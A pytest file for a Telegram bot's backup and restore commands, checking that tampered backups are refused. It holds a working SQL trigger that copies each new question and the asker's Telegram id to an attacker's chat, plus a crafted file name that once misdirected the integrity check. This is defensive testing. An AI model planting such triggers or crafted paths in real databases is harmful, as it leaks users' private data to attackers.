"""`python -m bot backup` while the bot runs, and `restore`."""

from __future__ import annotations

import shutil
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from bot.backup import backup, restore
from bot.storage import Storage
from tests.conftest import WORKER, Harness

ROOT = Path(__file__).resolve().parent.parent


def write_config(tmp_path: Path, storage: Path) -> Path:
    config = tmp_path / "config.toml"
    config.write_text(f"""
[telegram]
token = "123456:TEST-TOKEN"
[officials]
chat_id = -100123
[storage]
path = "{storage}"
[[topics]]
key = "housing"
title = "Nhà ở"
""", encoding="utf-8")
    return config


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "bot", *args], check=False, capture_output=True,
                          text=True, cwd=ROOT, timeout=60)


async def test_backup_while_running_then_restore(bot: Harness, tmp_path: Path) -> None:
    case = await bot.ask(WORKER, "Nhà ở xã hội cho công nhân thuê giá bao nhiêu một tháng ạ?")
    await bot.card(case)
    config = write_config(tmp_path, bot.config.storage.path)
    copy = tmp_path / "backup.sqlite3"
    result = cli("backup", "--output", str(copy), "--config", str(config))
    assert result.returncode == 0, result.stderr
    with sqlite3.connect(copy) as db:
        assert db.execute("SELECT COUNT(*) FROM questions").fetchone()[0] == 1

    elsewhere = tmp_path / "restored" / "db.sqlite3"
    (tmp_path / "x").mkdir()
    restored = cli("restore", str(copy), "--config", str(write_config(tmp_path / "x", elsewhere)))
    assert restored.returncode == 0, restored.stderr
    with sqlite3.connect(elsewhere) as db:
        assert db.execute("SELECT text FROM questions").fetchone()[0].startswith("Nhà ở xã hội")


def test_restore_refuses_a_file_that_is_not_a_backup(tmp_path: Path) -> None:
    junk = tmp_path / "junk.sqlite3"
    junk.write_bytes(b"not a database at all" * 100)
    database = tmp_path / "db.sqlite3"
    result = cli("restore", str(junk), "--config", str(write_config(tmp_path, database)))
    assert result.returncode == 1
    assert "Restore failed" in result.stderr
    assert not database.exists()


# What an attacker who gets an official to restore their file would add: every new
# question, with the asker's Telegram id, copied into a message to the attacker's chat.
SPY_TRIGGER = """CREATE TRIGGER spy AFTER INSERT ON questions BEGIN
    INSERT INTO outbox (channel, chat_id, kind, payload, created_at, due_at)
    SELECT 'telegram', '666', 'send', NEW.text || (SELECT external_id FROM users WHERE id = NEW.user_id),
           NEW.created_at, NEW.created_at;
END"""

TAMPERINGS: dict[str, Callable[[sqlite3.Connection], None]] = {
    "trigger": lambda db: db.execute(SPY_TRIGGER),
    "view": lambda db: db.execute("CREATE VIEW askers AS SELECT * FROM users"),
    "table": lambda db: db.execute("CREATE TABLE stash (payload TEXT)"),
    "index": lambda db: db.execute("CREATE INDEX by_text ON questions (text)"),
    "changed column": lambda db: db.execute("ALTER TABLE users ADD COLUMN note TEXT"),
    "dropped index": lambda db: db.execute("DROP INDEX events_by_question"),
    "newer version": lambda db: db.execute("PRAGMA user_version = 9999"),
    "older unknown version": lambda db: db.execute("PRAGMA user_version = 0"),
    "broken foreign key": lambda db: db.execute(
        "INSERT INTO events (question_id, actor_name, action, created_at) VALUES (424242, '', 'x', 0)"),
}


async def live_database(bot: Harness, tmp_path: Path) -> tuple[Path, Path]:
    """A backup of the running bot (one question in it) and a stopped database restored from it."""
    case = await bot.ask(WORKER, "Nhà ở xã hội cho công nhân thuê giá bao nhiêu một tháng ạ?")
    await bot.card(case)
    good = tmp_path / "good.sqlite3"
    backup(Path(bot.config.storage.path), good)
    live = tmp_path / "live" / "db.sqlite3"
    assert restore(good, live) is None
    return good, live


def tamper(path: Path, change: Callable[[sqlite3.Connection], object]) -> None:
    """Change a backup file the way an attacker would ship it: one file, no journal beside it."""
    db = sqlite3.connect(path, isolation_level=None)
    try:
        db.execute("PRAGMA foreign_keys=OFF")
        change(db)
        db.execute("PRAGMA journal_mode=DELETE")
    finally:
        db.close()
    assert not Path(f"{path}-wal").exists()


def files_of(database: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in sorted(database.parent.iterdir())}


@pytest.mark.parametrize("tampering", list(TAMPERINGS))
async def test_restore_refuses_a_tampered_backup_and_leaves_the_database_alone(
        bot: Harness, tmp_path: Path, tampering: str) -> None:
    good, live = await live_database(bot, tmp_path)
    evil = tmp_path / "evil.sqlite3"
    shutil.copyfile(good, evil)
    tamper(evil, TAMPERINGS[tampering])
    before = files_of(live)

    with pytest.raises(ValueError):
        restore(evil, live)
    assert files_of(live) == before  # nothing replaced, nothing left behind

    # The bot started on that database: a new question goes to the officials only.
    storage = await Storage.open(live)
    try:
        names = [row[0] for row in await storage._all("SELECT name FROM sqlite_master")]
    finally:
        await storage.close()
    assert "spy" not in names and "askers" not in names and "stash" not in names


async def test_restore_checks_the_file_it_copies_even_with_hash_in_its_name(
        bot: Harness, tmp_path: Path) -> None:
    # SQLite reads "file:x.sqlite3#y?mode=ro" as the file "x.sqlite3": an unescaped URI
    # checked the good file beside the one that was then copied in.
    good, live = await live_database(bot, tmp_path)
    shutil.copyfile(good, tmp_path / "backup.sqlite3")
    evil = tmp_path / "backup.sqlite3#2026-01-01?mode=ro"
    shutil.copyfile(good, evil)
    tamper(evil, lambda db: db.execute(SPY_TRIGGER))
    before = files_of(live)
    config = write_config(tmp_path, live)
    result = cli("restore", str(evil), "--config", str(config))
    assert result.returncode == 1, result.stderr
    assert "Restore failed" in result.stderr and "trigger spy" in result.stderr
    assert files_of(live) == before

    # The same name holding a sound backup restores.
    shutil.copyfile(good, evil)
    result = cli("restore", str(evil), "--config", str(config))
    assert result.returncode == 0, result.stderr
    with sqlite3.connect(live) as db:
        assert db.execute("SELECT COUNT(*) FROM questions").fetchone()[0] == 1
    kept = [path for path in live.parent.iterdir() if ".before-restore-" in path.name]
    assert len(kept) == 1


async def test_restore_replaces_a_damaged_database_and_keeps_its_bytes(
        bot: Harness, tmp_path: Path) -> None:
    good, live = await live_database(bot, tmp_path)
    live.write_bytes(b"damaged" * 1000)
    kept = restore(good, live)
    assert kept is not None and kept.read_bytes() == b"damaged" * 1000
    with sqlite3.connect(live) as db:
        assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert db.execute("SELECT COUNT(*) FROM questions").fetchone()[0] == 1


async def test_a_backup_from_an_older_version_restores_and_is_migrated(tmp_path: Path) -> None:
    older = tmp_path / "older-migrations"
    older.mkdir()
    scripts = sorted((ROOT / "migrations").glob("[0-9][0-9][0-9][0-9]_*.sql"))
    for script in scripts[:-1]:
        shutil.copy(script, older / script.name)
    storage = await Storage.open(tmp_path / "old.sqlite3", migrations_dir=older)
    await storage.close()
    live = tmp_path / "live" / "db.sqlite3"
    restore(tmp_path / "old.sqlite3", live)
    storage = await Storage.open(live)
    try:
        assert await storage.schema_version() == int(scripts[-1].name[:4])
    finally:
        await storage.close()
